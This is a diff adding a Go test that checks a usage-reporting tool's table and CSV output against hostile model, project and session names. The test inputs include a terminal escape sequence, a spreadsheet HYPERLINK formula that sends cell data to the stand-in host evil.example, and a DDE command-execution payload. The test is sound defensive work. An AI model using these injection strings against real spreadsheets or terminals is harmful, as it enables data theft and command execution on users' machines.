@@ -196,3 +196,47 @@ func TestBadQuery(t *testing.T) {
 		}
 	}
 }
+
+// TestHostileNames: model, project and session names chosen by clients
+// reach tables without control characters (an escape sequence would
+// recolour or clear the reader's terminal) and CSV as cells a spreadsheet
+// does not evaluate (issue 13 item 6).
+func TestHostileNames(t *testing.T) {
+	db := sqlite.NewDB(filepath.Join(t.TempDir(), "ledger.db"))
+	if err := db.Open(); err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	at := time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
+	ev := storetest.Event("h1", at, tokenmeter.Usage{InputTokens: 10, OutputTokens: 5})
+	ev.Model, ev.Project, ev.Session = "\x1b[2J\x1b]0;owned\x07claude", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0"
+	ev.CostKnown = false
+	if _, err := db.Append(context.Background(), []tokenmeter.Event{ev}); err != nil {
+		t.Fatal(err)
+	}
+	for _, q := range []report.Query{
+		{Kind: report.Daily, By: report.ByModel, Loc: time.UTC},
+		{Kind: report.Daily, By: report.ByProject, Loc: time.UTC},
+		{Kind: report.Models, Loc: time.UTC},
+		{Kind: report.Session, Loc: time.UTC},
+		{Kind: report.Blocks, Loc: time.UTC},
+	} {
+		rep, err := report.Build(context.Background(), db, q, at.Add(time.Hour))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var table, csv bytes.Buffer
+		report.Table(&table, rep)
+		report.CSV(&csv, rep)
+		if strings.ContainsAny(table.String(), "\x1b\x07") {
+			t.Errorf("%s by %q: the table carries control characters:\n%q", q.Kind, q.By, table.String())
+		}
+		for _, line := range strings.Split(csv.String(), "\n") {
+			for _, cell := range strings.Split(line, ",") {
+				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
+					t.Errorf("%s by %q: CSV cell %q starts a formula", q.Kind, q.By, cell)
+				}
+			}
+		}
+	}
+}
